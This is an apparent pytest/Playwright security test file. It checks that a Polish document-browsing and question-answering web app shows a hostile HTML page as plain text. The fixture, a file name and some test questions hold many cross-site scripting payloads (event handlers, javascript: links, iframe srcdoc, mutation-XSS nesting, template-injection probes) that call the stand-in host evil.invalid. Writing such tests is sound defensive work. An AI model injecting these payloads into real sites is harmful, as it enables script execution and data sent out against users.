"""A document full of scripts, read and shown for real, does nothing in real Chromium."""

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.conftest import IN_AUGUST, ask, open_folds, serving_documents

pytestmark = pytest.mark.browser

_TAKE_OVER = "window.taken=1;fetch('http://evil.invalid/')"
HOSTILE = f"""<!doctype html><html lang="pl"><head>
<title>Konsultacje &lt;script&gt;{_TAKE_OVER}&lt;/script&gt; rodzin</title>
<meta http-equiv="refresh" content="0;url=http://evil.invalid/refresh">
<base href="http://evil.invalid/"><link rel="stylesheet" href="http://evil.invalid/a.css">
<style>body {{ display: none; background: url(http://evil.invalid/b) }}</style>
<script>{_TAKE_OVER}</script></head>
<body onload="{_TAKE_OVER}"><main>
<h1 onclick="{_TAKE_OVER}">Konsultacje programu wsparcia rodzin</h1>
<p>Data publikacji: 28 sierpnia 2025</p>
<h2>Dyżury <img src=x onerror="{_TAKE_OVER}"></h2>
<p>Dyżur eksperta odbędzie się 2 września 2025 r., w godzinach 12:00–15:00, w pokoju 7
&lt;img src=x onerror="{_TAKE_OVER}"&gt; przy ul. Lipowej 5 (tel. 12 345 67 89).</p>
<p>"&gt;&lt;script&gt;{_TAKE_OVER}&lt;/script&gt; {{{{ 7*7 }}}} {{% raw %}} &lt;/textarea&gt;&lt;/template&gt;</p>
<ul><li><a href="javascript:{_TAKE_OVER}">Formularz składa się</a> e-mailem:
<a href="javascript:{_TAKE_OVER}">rodzina@gmina.example</a></li>
<li>na adres &lt;svg onload="{_TAKE_OVER}"&gt; ul. Lipowa 5, do 10 września 2025 r.</li>
<li>\u202etxet tfel ot thgir\u202c \u2066i\u2069 \u200bukryte\u200b \ufeff ﹤script﹥</li></ul>
<svg><script>{_TAKE_OVER}</script><a xlink:href="javascript:{_TAKE_OVER}"><text>svg</text></a></svg>
<iframe src="http://evil.invalid/frame" srcdoc="&lt;script&gt;parent.{_TAKE_OVER}&lt;/script&gt;"></iframe>
<object data="http://evil.invalid/o"></object><embed src="http://evil.invalid/e">
<form action="http://evil.invalid/form"><button formaction="javascript:{_TAKE_OVER}">ok</button></form>
<table><tr><th>Zadanie &lt;b onmouseover="{_TAKE_OVER}"&gt;</th><th>Realizator</th></tr>
<tr><td>Klub rodzica &lt;script&gt;{_TAKE_OVER}&lt;/script&gt;</td><td>Gmina</td></tr></table>
<math><mtext></form><form><mglyph><style></math><img src onerror="{_TAKE_OVER}">
</main></body></html>"""  # noqa: E501


@pytest.fixture(scope="module")
def hostile_address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    folder: Path = tmp_path_factory.mktemp("hostile")
    (folder / "in").mkdir()
    (folder / "in" / "<img src=x onerror=taken=1>.html").write_text(HOSTILE, "utf-8")
    with serving_documents(folder / "in", folder, IN_AUGUST) as address:
        yield address


@pytest.fixture
def watched(browser: Any, hostile_address: str) -> Iterator[Any]:
    """A page that may reach nothing but its own server and run nothing but its own script."""
    context = browser.new_context(locale="pl-PL")
    page = context.new_page()
    seen: list[str] = []
    page.on("dialog", lambda dialog: (seen.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda one: seen.append(one.url) if _foreign(one, hostile_address) else None)
    page.on("pageerror", lambda error: seen.append(str(error)))
    page.on("console", lambda said: seen.append(said.text) if said.type == "error" else None)
    page.on("popup", lambda popup: seen.append(popup.url))
    yield page
    assert seen == []
    context.close()


def _foreign(request: Any, address: str) -> bool:
    return not request.url.startswith(address + "/")


def assert_untouched(page: Any) -> None:
    assert page.evaluate("window.taken") is None
    made = "main :is(script, style, iframe, object, embed, meta, base, img, math)"
    assert page.locator(made).count() == 0
    assert page.locator("main svg:not(.opinion svg)").count() == 0
    handlers = "[...document.querySelectorAll('*')].flatMap(one => one.getAttributeNames())"
    assert page.evaluate(f"{handlers}.filter(name => name.startsWith('on'))") == []
    links = page.evaluate("[...document.links].map(one => one.protocol)")
    assert set(links) <= {"http:", "tel:", "mailto:"}


def test_the_document_is_shown_as_text(watched, hostile_address):
    watched.goto(hostile_address)
    watched.locator("summary").click()
    watched.locator(".documents a").click()
    watched.locator("main.document").wait_for()
    assert_untouched(watched)
    assert "{{ 7*7 }}" in watched.locator("main").inner_text()
    for one in watched.locator("main h1, main h2, main li, main td").all():
        one.click()
    assert_untouched(watched)


@pytest.mark.parametrize(
    "question",
    ["Kiedy dyżur?", "Jak złożyć formularz?", "Jakie są zadania?", "Jaki jest telefon?",
     "<script>window.taken=1</script> kiedy dyżur?", "'\"><img src=x onerror=window.taken=1>"],
)  # fmt: skip
def test_its_quotes_are_shown_as_text(watched, hostile_address, question):
    watched.goto(hostile_address)
    ask(watched, question)
    open_folds(watched)
    assert_untouched(watched)
    for link in watched.locator("a.open[href^='/documents']").all()[:1]:
        link.click()
        watched.locator("main.document").wait_for()
        assert_untouched(watched)


def test_without_the_script_it_does_nothing_either(browser, hostile_address):
    context = browser.new_context(java_script_enabled=False, locale="pl-PL")
    page = context.new_page()
    foreign: list[str] = []
    page.on(
        "request", lambda one: foreign.append(one.url) if _foreign(one, hostile_address) else None
    )
    page.goto(hostile_address)
    page.locator("#question").fill("Kiedy dyżur?")
    page.get_by_role("button", name="Zapytaj").click()
    page.locator("article.turn").wait_for()
    assert foreign == [] and page.url.startswith(hostile_address)
    context.close()
